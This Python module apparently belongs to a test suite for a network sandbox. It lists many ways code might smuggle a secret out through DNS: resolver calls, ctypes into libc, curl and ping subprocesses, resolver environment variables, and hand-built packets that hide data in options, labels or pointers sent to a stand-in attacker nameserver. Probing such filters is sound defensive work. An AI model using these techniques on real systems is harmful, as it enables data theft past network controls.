"""Data that leaves as a question: names, questions by hand, odd packets, and resolvers of every kind."""

from __future__ import annotations

import ctypes
import os
import socket
import struct
import subprocess
import sys

import world
from table import ATTEMPTS, attempt

A, TXT, MX, NS, SRV, NULL, ANY, AAAA, PTR, CNAME = 1, 16, 15, 2, 33, 10, 255, 28, 12, 5
KINDS = {"a": A, "aaaa": AAAA, "txt": TXT, "mx": MX, "ns": NS, "srv": SRV, "null": NULL, "any": ANY, "cname": CNAME}
RESOLVER = (world.NAMESERVER4, 53)


def question(name, kind=A, *, count=1, flags=0x0100, extra=b"", more=0, cls=1):
    """A DNS packet."""
    encoded = b"".join(bytes([len(label)]) + label.encode("latin-1") for label in name.split(".") if label) + b"\0"
    return struct.pack(">HHHHHH", 4242, flags, count, 0, 0, more) + encoded + struct.pack(">HH", kind, cls) + extra


def ask_udp(packet, to=RESOLVER):
    family = socket.AF_INET6 if ":" in to[0] else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as opened:
        opened.settimeout(0.5)
        opened.sendto(packet, to)
        return opened.recv(1000)


def ask_udp_connected(packet, to=RESOLVER):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.settimeout(0.5)
        opened.connect(to)
        opened.send(packet)
        return opened.recv(1000)


def ask_tcp(packet, to=RESOLVER):
    with socket.create_connection(to, 1) as opened:
        opened.sendall(struct.pack(">H", len(packet)) + packet)
        opened.settimeout(0.5)
        return opened.recv(1000)


WAYS = {"udp": ask_udp, "udp connected": ask_udp_connected, "tcp": ask_tcp}


@attempt("dns", quick=True)
def getaddrinfo(aim):
    socket.getaddrinfo(aim.secret_name, 80)


@attempt("dns")
def getaddrinfo_trailing_dot(aim):
    socket.getaddrinfo(f"{aim.secret_name}.", 80)


@attempt("dns")
def getaddrinfo_bytes(aim):
    socket.getaddrinfo(aim.secret_name.encode(), 80)


@attempt("dns")
def c_getaddrinfo(aim):
    import _socket

    _socket.getaddrinfo(aim.secret_name, 80)


@attempt("dns", before=lambda aim: socket.getaddrinfo)
def saved_getaddrinfo(aim, saved):
    saved(aim.secret_name, 80)


@attempt("dns")
def gethostbyname(aim):
    socket.gethostbyname(aim.secret_name)


@attempt("dns")
def c_gethostbyname(aim):
    import _socket

    _socket.gethostbyname(aim.secret_name)


@attempt("dns")
def gethostbyname_ex(aim):
    socket.gethostbyname_ex(aim.secret_name)


@attempt("dns")
def gethostbyaddr(aim):
    socket.gethostbyaddr(aim.secret_name)


@attempt("dns")
def getfqdn(aim):
    socket.getfqdn(aim.secret_name)


@attempt("dns")
def reverse_lookup(aim):
    """The question for a pointer record carries 16 bytes of the asker's choice."""
    socket.gethostbyaddr(world.DENIED4)


@attempt("dns")
def reverse_lookup_v6(aim):
    socket.getnameinfo((world.DENIED6, 80, 0, 0), 0)


@attempt("dns")
def connect_to_a_secret_name(aim):
    socket.socket().connect_ex((aim.secret_name, 80))


@attempt("dns")
def sendto_a_secret_name(aim):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (aim.secret_name, 80))


@attempt("dns")
def bind_to_a_secret_name(aim):
    socket.socket().bind((aim.secret_name, 0))


@attempt("dns")
def below_an_exactly_allowed_name(aim):
    socket.getaddrinfo(f"{aim.token}.allowed.test", 80)


@attempt("dns")
def by_a_thread_of_asyncio(aim):
    import asyncio

    async def look():
        await asyncio.get_running_loop().getaddrinfo(aim.secret_name, 80)

    asyncio.run(look())


@attempt("dns", "module:uvloop")
def by_uvloop_name_info(aim):
    import uvloop

    async def look():
        import asyncio

        await asyncio.get_running_loop().getnameinfo((world.DENIED4, 80))

    uvloop.run(look())


@attempt("dns", quick=True)
def ctypes_getaddrinfo(aim):
    ctypes.CDLL(None).getaddrinfo(aim.secret_name.encode(), None, None, ctypes.byref(ctypes.c_void_p()))


@attempt("dns")
def ctypes_gethostbyname(aim):
    ctypes.CDLL(None).gethostbyname(aim.secret_name.encode())


@attempt("dns", quick=True)
def res_query(aim):
    _resolv("res_query")(aim.secret_name.encode(), 1, TXT, ctypes.create_string_buffer(1000), 1000)


@attempt("dns")
def res_search(aim):
    _resolv("res_search")(aim.secret_name.encode(), 1, A, ctypes.create_string_buffer(1000), 1000)


@attempt("dns")
def res_send(aim):
    """A packet of our own making, sent by libc's resolver."""
    packet = question(aim.secret_name)
    _resolv("res_send")(packet, len(packet), ctypes.create_string_buffer(1000), 1000)


def _resolv(name):
    library = ctypes.CDLL("libresolv.so.2")
    return getattr(library, name, None) or getattr(library, f"__{name}")


@attempt("dns")
def getaddrinfo_a(aim):
    """glibc's own asynchronous lookup: a thread that Python does not know."""

    class Request(ctypes.Structure):
        _fields_ = (
            ("name", ctypes.c_char_p), ("service", ctypes.c_char_p), ("request", ctypes.c_void_p),
            ("result", ctypes.c_void_p), ("unused", ctypes.c_int * 20),
        )  # fmt: skip

    one = Request(aim.secret_name.encode(), None, None, None)
    try:
        call = ctypes.CDLL(None).getaddrinfo_a
    except AttributeError:
        call = ctypes.CDLL("libanl.so.1").getaddrinfo_a
    call(0, (ctypes.POINTER(Request) * 1)(ctypes.pointer(one)), 1, None)


@attempt("dns", "module:dns")
def dnspython(aim):
    import dns.resolver

    dns.resolver.resolve(aim.secret_name, "TXT", lifetime=1)


@attempt("dns", "module:dns")
def dnspython_over_tcp(aim):
    import dns.resolver

    dns.resolver.resolve(aim.secret_name, "A", lifetime=1, tcp=True)


@attempt("dns", "program:getent")
def getent(aim):
    subprocess.run(["getent", "hosts", aim.secret_name], check=False, capture_output=True)


@attempt("dns", "program:curl")
def curl_looks_up(aim):
    subprocess.run(["curl", "-sm1", f"http://{aim.secret_name}/"], check=False, capture_output=True)


@attempt("dns", "program:perl")
def perl_looks_up(aim):
    subprocess.run(["perl", "-e", f"gethostbyname('{aim.secret_name}')"], check=False)


@attempt("dns", "program:ping")
def ping_looks_up(aim):
    subprocess.run(["ping", "-c1", "-W1", aim.secret_name], check=False, capture_output=True)


@attempt("dns")
def python_child_looks_up(aim):
    code = f"import socket; socket.getaddrinfo('{aim.secret_name}', 80)"
    subprocess.run([sys.executable, "-ISc", code], check=False, capture_output=True)


@attempt("dns")
def host_aliases(aim):
    """glibc renames a name without a dot by a file that the environment names."""
    path = f"{aim.scratch}/aliases"
    with open(path, "w", encoding="ascii") as file:
        file.write(f"friend {aim.secret_name}\n")
    code = "import socket; socket.getaddrinfo('friend', 80)"
    subprocess.run([sys.executable, "-ISc", code], env={"HOSTALIASES": path}, check=False, capture_output=True)


@attempt("dns")
def local_domain(aim):
    """The search list is the environment's: `www` becomes `www.SECRET.attacker.test`."""
    code = "import socket; socket.getaddrinfo('www', 80)"
    subprocess.run([sys.executable, "-ISc", code], env={"LOCALDOMAIN": aim.secret_name}, check=False, capture_output=True)


@attempt("dns", alone=True)
def local_domain_of_ourselves(aim):
    os.environ["LOCALDOMAIN"] = aim.secret_name
    ctypes.CDLL("libresolv.so.2")
    getattr(ctypes.CDLL(None), "__res_init")()
    socket.getaddrinfo("www", 80)


@attempt("dns")
def res_options_udp(aim):
    code = f"import socket; socket.getaddrinfo('{aim.secret_name}', 80)"
    for options in ("", "attempts:2", "edns0", "no-tld-query"):
        subprocess.run([sys.executable, "-ISc", code], env={"RES_OPTIONS": options}, check=False, capture_output=True)


for _way, _ask in WAYS.items():
    for _what, _kind in KINDS.items():
        ATTEMPTS.add(
            "dns",
            f"{_what} question by hand, {_way}",
            lambda aim, ask=_ask, kind=_kind: ask(question(aim.secret_name, kind)),
        )

# The question is for an allowed name; the secret rides along.
STOWAWAYS = {
    "second question": lambda aim: question("allowed.test", count=2, extra=question(aim.secret_name)[12:]),
    "option": lambda aim: question(
        "allowed.test",
        more=1,
        extra=b"\0"
        + struct.pack(">HHIH", 41, 4096, 0, 4 + len(aim.token))
        + struct.pack(">HH", 65001, len(aim.token))
        + aim.secret,
    ),
    "trailing bytes": lambda aim: question("allowed.test", extra=aim.secret),
    "class": lambda aim: question(aim.secret_name, TXT, cls=3),
    "update": lambda aim: question(aim.secret_name, 6, flags=0x2800),
    "answer": lambda aim: question(aim.secret_name, flags=0x8180),
    "upper case": lambda aim: question(aim.secret_name.upper()),
    "long name": lambda aim: question(f"{aim.token}.{'a' * 60}.{'b' * 60}.attacker.test"),
    "below an exact name": lambda aim: question(f"{aim.token}.allowed.test"),
    "dots inside of a label": lambda aim: (
        question("x")[:12] + bytes([len(aim.token) + 13]) + aim.secret + b".allowed.test" + b"\0\0\1\0\1"
    ),
    "null inside of a label": lambda aim: (
        question("x")[:12] + bytes([len(aim.token) + 1]) + aim.secret + b"\0" + b"\7allowed\4test\0\0\1\0\1"
    ),
    "pointer": lambda aim: (
        question("x")[:12] + bytes([len(aim.token)]) + aim.secret + b"\xc0\x0c" + b"\0\1\0\1" + b"\7allowed\4test\0"
    ),
}
for _way in ("udp", "tcp"):
    for _what, _packet in STOWAWAYS.items():
        ATTEMPTS.add("dns", f"{_what} in a packet, {_way}", lambda aim, ask=WAYS[_way], packet=_packet: ask(packet(aim)))

for _way, _ask in WAYS.items():
    ATTEMPTS.add(
        "dns",
        f"the attacker's own nameserver, {_way}",
        lambda aim, ask=_ask: ask(question(aim.secret_name), (world.DENIED4, 53)),
        quick=_way == "udp",
    )
    ATTEMPTS.add(
        "dns",
        f"an allowed name at the attacker's own nameserver, {_way}",
        lambda aim, ask=_ask: ask(question("allowed.test"), (world.DENIED4, 53)),
    )


@attempt("dns", "feature:ipv6")
def nameserver_by_v6(aim):
    ask_udp(question(aim.secret_name), (world.DENIED6, 53))


@attempt("dns")
def multicast(aim):
    opened = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    opened.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
    opened.sendto(question(f"{aim.token}.local"), ("224.0.0.251", 5353))


@attempt("dns")
def nameserver_on_another_port(aim):
    """The nameserver's address is reachable for questions only."""
    opened = socket.create_connection((world.NAMESERVER4, 80), 1)
    opened.sendall(aim.request())
    opened.recv(10)


@attempt("dns")
def not_a_question_over_tcp(aim):
    """The nameserver's port takes any bytes."""
    opened = socket.create_connection(RESOLVER, 1)
    opened.sendall(b"\0\x40" + aim.secret.ljust(64, b"\0"))
    opened.settimeout(0.3)
    opened.recv(10)
